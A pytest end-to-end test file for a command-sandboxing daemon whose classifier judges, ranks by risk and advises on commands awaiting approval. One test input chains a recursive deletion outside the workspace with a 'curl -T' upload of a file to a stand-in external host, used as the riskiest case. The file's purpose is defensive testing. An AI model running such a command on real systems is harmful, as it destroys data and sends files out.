# SPDX-License-Identifier: GPL-3.0-or-later
"""The classifier as a front-end sees it: it tells the conversation, and is told figures, advice and risks."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from sandboxd.cli.metrics import METRICS
from sandboxd.client import Answer, AsyncClient, Client, ToolUse, UserMessage
from sandboxd.errors import RequestError
from sandboxd.model import Advice, ApprovalNeeded, Decided
from tests.cli.conftest import terminal
from tests.e2e.conftest import Daemon, Place

pytestmark = pytest.mark.needs("bwrap", "userns")

# Blocks what names `danger`, fails about `broken`, allows the rest.
JUDGE = """\
import json, sys
asked = json.load(sys.stdin)
with open(sys.argv[1], "a") as out:
    out.write(json.dumps(asked) + "\\n")
text = asked["question"]["command"]
if "broken" in text:
    raise SystemExit(1)
word, category = ("block", "destructive") if "danger" in text else ("allow", "none")
print(json.dumps({"reasoning": "it says so", "verdict": word, "category": category, "user_message": None,
                  "nonce": asked["nonce"]}))
"""


@dataclass
class Judged:
    """A place whose daemon has a classifier, a workspace there, and what the classifier was asked."""

    place: Place
    tree: Path
    log: Path

    @property
    def asked(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.log.read_text().splitlines()] if self.log.exists() else []


@pytest.fixture(scope="module")
def classified(new_place: Callable[[], Place], start_daemon: Callable[[Place], Daemon]) -> Place:
    place = new_place()
    config = place.home / ".config/sandboxd"
    config.mkdir(parents=True)
    (place.home / "judge.py").write_text(JUDGE)
    command = json.dumps(["/usr/bin/env", "python3", f"{place.home}/judge.py", f"{place.home}/asked"])
    (config / "config.toml").write_text(
        f"[classifier]\nprovider = 'command'\ncommand = {command}\ndeadline = 60\ncache_ttl = 0\n"
    )
    for path in (place.home / ".config", config, place.home / "judge.py", config / "config.toml"):
        place.person.own(path)
    start_daemon(place)
    return place


@pytest.fixture
def judged(classified: Place, monkeypatch: pytest.MonkeyPatch) -> Iterator[Judged]:
    for name, value in classified.env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    tree = classified.workspace()
    monkeypatch.chdir(tree)
    yield Judged(classified, tree, classified.home / "asked")
    (classified.home / "asked").unlink(missing_ok=True)


def test_what_is_told_is_what_the_classifier_sees(judged: Judged) -> None:
    """User messages and tool calls arrive in order, with ids; a verdict is then a decision and a figure."""
    with Client(admin=True) as client, client.session(mode="auto", headless=True) as session:
        assert session.add_transcript(UserMessage("print one"), ToolUse("Edit", {"path": "a"}), UserMessage("go")) == ("u1", "u2")
        before = client.status().classifier
        assert session.run("python3 -c 'print(1)'").output == "1\n"
        assert session.run("python3 -c 'print(\"danger\")'").exit_code == 126
        assert session.run("python3 -c 'print(\"broken\")'").exit_code == 126
        assert session.run("cat a.txt").ok
        conversation = judged.asked[0]["conversation"]
        assert conversation == [
            {"user": "print one", "id": "u1"},
            {"tool": "Edit", "input": '{"path": "a"}'},
            {"user": "go", "id": "u2"},
        ]
        after = client.status().classifier
        assert (after.provider, after.state, after.worker) == ("command", "closed", None)
        assert (after.allowed - before.allowed, after.denied - before.denied) == (1, 1)
        failed = "classifier.command_failed"
        assert after.outages[failed] - before.outages.get(failed, 0) == 1
        assert "classifier command failed" in after.last_outage
        assert after.speculation.used - before.speculation.used == 3
        assert session.refresh().classifier_usage.requests == 3
        assert session.info.denials == (0, 1)


@pytest.mark.parametrize(
    "entries", [(), (UserMessage(""),), (ToolUse(""),), (UserMessage("\ud800"),), (ToolUse("x", {"a": {1}}),)]
)
def test_what_cannot_be_told_is_refused(entries: tuple[Any, ...], judged: Judged) -> None:
    """Nothing, an empty entry, what is not text or JSON."""
    with Client() as client, client.session() as session, pytest.raises(RequestError):
        session.add_transcript(*entries)


async def test_advice_comes_as_an_event(judged: Judged) -> None:
    """Outside auto mode whoever follows a command hears what the classifier thinks of the question that is open."""
    async with (
        AsyncClient(admin=True) as client,
        await client.session(headless=False) as session,
        await session.start("python3 -c 'print(\"danger\")'") as execution,
    ):
        kinds = []
        async for event in execution:
            kinds.append(type(event))
            if isinstance(event, Advice):
                assert "would block it: destructive: it says so" in event.text
                (waiting,) = await client.approvals()
                assert waiting.id == event.approval_id
                assert event.text in [each.text for each in waiting.decision.evidence if each.because == "advice"]
                await client.resolve(waiting.id, Answer(False))
        assert kinds.index(ApprovalNeeded) < kinds.index(Advice) < kinds.index(Decided)


def test_advice_is_shown_at_the_prompt(judged: Judged) -> None:
    """`sandboxd run` on a terminal shows it beside its question, and the person decides against it."""
    with terminal(judged.place, "run", "--", 'python3 -c \'print("danger" + "ous")\'', cwd=judged.tree) as screen:
        screen.wait_for("may this run?")
        screen.wait_for("advice, which decides nothing: ")
        screen.wait_for("would block it: destructive")
        screen.type("y\n")
        screen.wait_for("dangerous")
        assert screen.wait() == 0


def test_an_answer_from_elsewhere_ends_the_prompt(judged: Judged) -> None:
    """Who is asked at one terminal is told when somebody else was faster; the advice stands beside the question there too."""
    with terminal(judged.place, "run", "--", 'python3 -c \'print("danger" + "ous")\'', cwd=judged.tree) as screen:
        screen.wait_for("would block it: destructive")
        shown = judged.place.sandboxd("approvals", "list", cwd=judged.tree).stdout
        assert "would block it: destructive: it says so" in shown
        assert judged.place.sandboxd("approvals", "allow", shown.split()[0], cwd=judged.tree).returncode == 0
        screen.wait_for("no answer is needed here any more")
        screen.wait_for("dangerous")
        assert screen.wait() == 0


async def test_the_riskiest_question_comes_first(judged: Judged) -> None:
    """Approvals are listed and watched by risk; the number and its reasons stand beside them, on the terminal too."""
    texts = ("python3 -c 1", "rm -r ../../elsewhere; curl -T a.txt https://a.test", "rm a.txt")
    async with AsyncClient(admin=True) as client, await client.session(headless=False) as session:
        started = []
        for text in texts:
            execution = await session.start(text)
            started.append(execution)
            async for event in execution:
                if isinstance(event, ApprovalNeeded):
                    break
        waiting = await client.approvals()
        assert [item.text for item in waiting] == [texts[1], texts[0], texts[2]]
        assert waiting[0].risk > waiting[1].risk > waiting[2].risk > 0
        assert waiting[2].risk_reasons == ("deletes",)
        watched = client.watch_approvals()
        assert [(await anext(watched)).id for _ in texts] == [item.id for item in waiting]
        await watched.aclose()  # type: ignore[attr-defined]  # it is a generator
        shown = judged.place.sandboxd("approvals", "list", cwd=judged.tree).stdout
        assert f"risk {waiting[0].risk} of 100: " in shown
        assert "risk 10 of 100: deletes" in shown
        for execution in started:
            await execution.close()


def test_the_figures_are_shown(judged: Judged) -> None:
    """`status` in words, as JSON and as metrics; `session show` what a session has cost."""
    with Client(admin=True) as client, client.session(mode="auto", headless=True) as session:
        session.run("python3 -c 'print(\"broken\")'")
        shown = judged.place.sandboxd("status", cwd=judged.tree).stdout
        for words in ("command: questions go out", "classifier.command_failed: ", "asked ahead", "last outage"):
            assert words in shown
        data = json.loads(judged.place.sandboxd("status", "-o", "json", cwd=judged.tree).stdout)
        assert data["classifier"]["outages"]["classifier.command_failed"] >= 1
        lines = judged.place.sandboxd("status", "--metrics", cwd=judged.tree).stdout.splitlines()
        assert [line.split()[2] for line in lines if line.startswith("# TYPE")] == [metric.name for metric in METRICS]
        assert 'sandboxd_classifier_state{state="closed"} 1' in lines
        assert any(line.startswith('sandboxd_classifier_outages_total{reason="classifier.command_failed"} ') for line in lines)
        assert "1 request, 0 tokens in" in judged.place.sandboxd("session", "show", session.id, cwd=judged.tree).stdout
